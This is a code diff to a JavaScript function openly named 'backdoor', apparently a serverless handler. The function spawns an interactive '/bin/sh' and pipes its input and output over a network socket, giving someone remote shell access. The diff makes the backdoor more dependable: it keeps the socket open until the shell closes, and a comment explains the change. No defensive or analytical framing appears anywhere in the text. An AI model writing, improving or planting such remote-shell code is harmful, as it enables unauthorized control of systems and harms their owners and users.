@@ -55,8 +55,11 @@ exports.backdoor = (event) => new Promise((resolve) => {
     const sh = spawn('/bin/sh', ['-i']);
     sh.on('error', (err) => { sock.destroy(); resolve(respond(502, 'spawn failed: ' + err.message)); });
     sock.pipe(sh.stdin);
-    sh.stdout.pipe(sock);
-    sh.stderr.pipe(sock);
+    // Both outputs go to the socket, which is ended once, when the shell is
+    // gone: with the default {end: true} the first output to reach its end
+    // (often stderr) would end the socket while the other still had data.
+    sh.stdout.pipe(sock, { end: false });
+    sh.stderr.pipe(sock, { end: false });
     sh.on('close', () => { sock.end(); resolve(respond(200, 'done')); });
   });
 });
